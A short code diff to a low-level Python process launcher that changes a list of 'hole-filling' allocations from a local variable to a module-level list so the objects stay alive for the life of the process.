@@ -27,6 +27,8 @@ _PR_SET_DUMPABLE, _PR_SET_THP_DISABLE = 4, 41
 _M_TRIM_THRESHOLD, _M_MMAP_MAX = -1, -4
 _DOMAIN_RAW = 0
 _SMALLEST, _LARGEST, _BYTES_HEAD, _IN_A_ROW = 16, 512, 33, 8
+_held: list[object] = []
+"""What fills holes, for as long as the process lives."""
 
 
 class _Allocator(ctypes.Structure):
@@ -60,10 +62,9 @@ def start(program: bytes) -> NoReturn:
         os.close(UFFD)
         phase.warm_up(rounds=2)
         gc.collect()
-        holes = _fill_holes()
+        _held.extend(_fill_holes())
         gc.freeze()
         perform(string_at(address, wait()))
-        del holes
     finally:
         os._exit(1)
 
